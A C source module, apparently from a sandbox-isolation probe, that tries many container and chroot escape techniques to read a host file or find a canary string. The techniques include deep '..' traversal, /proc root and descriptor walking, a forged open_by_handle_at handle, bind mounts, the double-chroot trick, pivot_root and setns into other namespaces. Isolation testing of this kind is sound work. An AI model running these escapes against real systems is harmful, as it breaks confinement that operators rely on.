/* Ways to a file of the host. */
#define _GNU_SOURCE
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { UPWARDS = 64, HUNTED_BYTES = 1 << 20 };

static int read_paths(int count, char **words) {
  for (int i = 1; i < count; i++) show(words[i]);
  return 0;
}

/* read-up PATH: as many .. as any path could need, from each folder that might sit nearer to the host. */
static int read_up(int count, char **words) {
  static const char *const from[] = {".", "/", "/proc/self/cwd", "/proc/self/root", "/proc/thread-self/root", "/usr", "/tmp",
                                     "/dev/shm", "/proc/self/fd"};
  if (count < 2) return 64;
  for (size_t i = 0; i < sizeof from / sizeof *from; i++) {
    char path[8192];
    strcpy(path, from[i]);
    for (int up = 0; up < UPWARDS; up++) strcat(path, "/..");
    strcat(path, words[1]);
    show(path);
  }
  return 0;
}

static int read_symbolic_link(int count, char **words) {
  if (count < 2) return 64;
  unlink("a-link");
  if (symlink(words[1], "a-link") < 0) return missed("symlink"), 1;
  show("a-link");
  return unlink("a-link");
}

static int read_hard_link(int count, char **words) {
  if (count < 2) return 64;
  unlink("a-hard-link");
  if (link(words[1], "a-hard-link") < 0) return missed("link to %s", words[1]), 0;
  show("a-hard-link");
  return unlink("a-hard-link");
}

static void read_below(const char *folder, const char *path) {
  char whole[8192];
  int fd = open(folder, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) return missed("opening %s", folder);
  strcpy(whole, ".");
  for (int up = 0; up < UPWARDS; up++) strcat(whole, "/..");
  strcat(whole, path);
  show_at(fd, whole);
  show_at(fd, path + 1);
  close(fd);
}

static bool read_below_process(pid_t pid, void *path) {
  char folder[320];
  for (int i = 0; i < 2; i++) {
    snprintf(folder, sizeof folder, "/proc/%d/%s", pid, i ? "cwd" : "root");
    read_below(folder, path);
  }
  snprintf(folder, sizeof folder, "/proc/%d/fd", pid);
  DIR *list = opendir(folder);
  struct dirent *entry;
  if (!list) missed("opening %s", folder);
  while (list && (entry = readdir(list))) {
    if (entry->d_name[0] == '.') continue;
    snprintf(folder, sizeof folder, "/proc/%d/fd/%s", pid, entry->d_name);
    read_below(folder, path);
  }
  if (list) closedir(list);
  return true;
}

/* read-through-processes PATH: by the root, working folder and descriptors of every process there is to see. */
static int read_through_processes(int count, char **words) {
  if (count < 2) return 64;
  each_process(read_below_process, words[1]);
  read_below_process(getpid(), words[1]);
  return 0;
}

struct handle {
  unsigned int size;
  int type;
  uint32_t inode, generation;
};

/* read-by-handle PATH: the root folder of the file system that some visible mount lies on has inode 2 on ext4. */
static int read_by_handle(int count, char **words) {
  static const char *const mounts[] = {"/", "/usr", "/workspace", ".", "/etc/hosts"};
  if (count < 2) return 64;
  for (size_t i = 0; i < sizeof mounts / sizeof *mounts; i++) {
    struct handle handle = {8, 1, 2, 0};
    int mount = open(mounts[i], O_RDONLY | O_CLOEXEC);
    int root = mount < 0 ? -1 : (int)syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY | O_DIRECTORY);
    if (root >= 0) gained("the root folder of the file system under %s", mounts[i]), show_at(root, words[1] + 1);
    else missed("open_by_handle_at on %s", mounts[i]);
  }
  return 0;
}

/* read-by-bind PATH */
static int read_by_bind(int count, char **words) {
  char path[4096];
  if (count < 2) return 64;
  mkdir("bound", 0755);
  if (mount("/", "bound", NULL, MS_BIND | MS_REC, NULL) < 0) return missed("bind mount"), 0;
  gained("a bind mount");
  snprintf(path, sizeof path, "bound%s", words[1]);
  show(path);
  return umount2("bound", MNT_DETACH);
}

/* leave-chroot PATH: the old way out of a chroot, for whoever may call chroot. */
static int leave_chroot(int count, char **words) {
  if (count < 2) return 64;
  int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  mkdir("jail", 0755);
  if (chroot("jail") < 0) return missed("chroot"), 0;
  gained("a chroot");
  if (fchdir(here) < 0) return missed("fchdir"), 0;
  for (int up = 0; up < UPWARDS; up++)
    if (chdir("..") < 0) return missed("chdir"), 0;
  if (chroot(".") < 0) return missed("second chroot"), 0;
  show(words[1]);
  return 0;
}

/* pivot-root PATH */
static int pivot(int count, char **words) {
  char path[4096];
  if (count < 2) return 64;
  mkdir("pivot", 0755);
  if (mount("pivot", "pivot", "tmpfs", 0, NULL) < 0) missed("tmpfs for the new root");
  mkdir("pivot/old", 0755);
  if (syscall(SYS_pivot_root, "pivot", "pivot/old") < 0) return missed("pivot_root"), 0;
  gained("another root");
  snprintf(path, sizeof path, "/old%s", words[1]);
  show(path);
  return 0;
}

static bool enter(pid_t pid, void *path) {
  static const char *const kinds[] = {"user", "mnt", "pid", "net", "ipc", "uts", "cgroup"};
  char name[64];
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
    snprintf(name, sizeof name, "/proc/%d/ns/%s", pid, kinds[i]);
    int fd = open(name, O_RDONLY | O_CLOEXEC);
    if (fd < 0) missed("opening %s", name);
    else if (setns(fd, 0) < 0) missed("setns to %s", name);
    else gained("the namespace %s", name), show(path);
    if (fd >= 0) close(fd);
  }
  return true;
}

/* enter-namespaces PATH: those of every process there is to see. */
static int enter_namespaces(int count, char **words) {
  if (count < 2) return 64;
  each_process(enter, words[1]);
  return 0;
}

static const char *hunted;

static int look(const char *path, const struct stat *info, int kind, struct FTW *place) {
  static char bytes[HUNTED_BYTES];
  (void)place;
  if (kind != FTW_F || !S_ISREG(info->st_mode)) return 0;
  int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  ssize_t size = fd < 0 ? -1 : read(fd, bytes, sizeof bytes);
  if (fd >= 0) close(fd);
  if (size > 0 && memmem(bytes, (size_t)size, hunted, strlen(hunted))) gained("%s in %s", hunted, path);
  return 0;
}

/* hunt MARK FOLDER...: every readable file below, without crossing into another file system. The mark is spelt backwards,
   so that this process's own arguments do not hold it. */
static int hunt(int count, char **words) {
  static char mark[256];
  size_t length = count > 1 ? strlen(words[1]) : 0;
  for (size_t i = 0; i < length && i < sizeof mark - 1; i++) mark[i] = words[1][length - 1 - i];
  hunted = mark;
  for (int i = 2; i < count; i++) nftw(words[i], look, 16, FTW_PHYS | FTW_MOUNT);
  return length ? 0 : 64;
}

const struct command reading_commands[] = {
    {"read", read_paths},
    {"read-up", read_up},
    {"read-symbolic-link", read_symbolic_link},
    {"read-hard-link", read_hard_link},
    {"read-through-processes", read_through_processes},
    {"read-by-handle", read_by_handle},
    {"read-by-bind", read_by_bind},
    {"leave-chroot", leave_chroot},
    {"pivot-root", pivot},
    {"enter-namespaces", enter_namespaces},
    {"hunt", hunt},
    {NULL, NULL},
};
